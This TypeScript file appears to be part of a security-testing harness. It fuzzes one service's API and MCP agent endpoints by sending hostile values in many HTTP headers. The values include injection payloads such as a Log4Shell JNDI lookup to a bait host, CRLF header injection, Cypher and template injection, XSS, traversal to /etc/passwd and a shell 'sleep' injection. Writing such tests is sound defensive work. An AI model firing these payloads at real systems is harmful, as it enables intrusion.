import type { Attack } from './attack.ts';
import { bytesOf } from './exchange.ts';
import { INJECTED_HEADER } from './rules.ts';
import { INJECTED_LABEL } from './writes.ts';

/** Headers that some part of the service reads, and some that others would believe. */
const NAMES: readonly string[] = [
  'Accept',
  'Accept-Encoding',
  'Accept-Language',
  'Access-Control-Request-Headers',
  'Access-Control-Request-Method',
  'Cookie',
  'Forwarded',
  'From',
  'If-Match',
  'If-Modified-Since',
  'If-None-Match',
  'Last-Event-ID',
  'Mcp-Protocol-Version',
  'Mcp-Session-Id',
  'Origin',
  'Prefer',
  'Range',
  'Referer',
  'Traceparent',
  'Tracestate',
  'User-Agent',
  'Via',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Forwarded-Proto',
  'X-HTTP-Method-Override',
  'X-Original-URL',
  'X-Real-IP',
  'X-Request-Id',
  'X-Rewrite-URL',
  'X-Service-Device-Id',
  'X-Service-Signature',
  'X-Service-Surface',
  'X-Service-Timestamp',
  'X-Temper-Surface',
];

/** Values of one line; every character is one byte. */
const valuesOf = (baitUrl: string): readonly string[] => [
  '',
  ' ',
  '*',
  ','.repeat(1000),
  `' CREATE (:${INJECTED_LABEL}) //`,
  `"}) CREATE (:${INJECTED_LABEL}) //`,
  '+ - && || ! ( ) { } [ ] ^ " ~ * ? : /',
  '<script>alert(1)</script>',
  '{{1337*31337}} #{1337*31337} <%= 1337*31337 %>',
  `\${jndi:ldap://${new URL(baitUrl).host}/a}`,
  `%0d%0a${INJECTED_HEADER}: 1`,
  '../../../../etc/passwd',
  `${baitUrl}/header`,
  '; sleep 9',
  '__proto__',
  'null',
  '-1',
  '99999999999999999999',
  '1e400',
  '\t\t\t',
  '\xff\xfe\xc0\xaf',
  '"unclosed',
  'W/"'.repeat(500),
  'bytes=0-0,1-1,2-2,3-3',
  'a=b; '.repeat(500),
  'x'.repeat(8000),
];

const shown = (value: string): string => JSON.stringify(value.length > 40 ? `${value.slice(0, 40)}…` : value);

interface Target {
  readonly name: string;
  readonly method: string;
  readonly path: string;
  readonly body?: string;
}

/**
 * Hostile values of every header, at a read with an entity tag, a write and the agents' endpoint.
 * @param mapId a map that the caller reads
 */
export function* headerAttacks(
  port: number,
  { token, mapId, baitUrl }: { readonly token: string; readonly mapId: string; readonly baitUrl: string },
): Generator<Attack> {
  const ask = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' });
  const targets: readonly Target[] = [
    { name: 'a panorama', method: 'GET', path: `/api/graph/cogmaps/${mapId}/panorama` },
    { name: 'a run', method: 'POST', path: `/api/cognitive-maps/${mapId}/materialize`, body: '{}' },
    { name: 'agents', method: 'POST', path: '/mcp', body: ask },
  ];
  for (const { name, method, path, body } of targets)
    for (const header of NAMES)
      for (const value of valuesOf(baitUrl))
        yield {
          name: `${header}: ${shown(value)} to ${name}`,
          port,
          surface: path === '/mcp' ? 'agents' : 'api',
          sending: () =>
            bytesOf({
              method,
              path,
              body,
              headers: [
                ['Authorization', `Bearer ${token}`],
                ...(body === undefined ? [] : ([['Content-Type', 'application/json']] as const)),
                [header, value],
              ],
            }),
        };
}
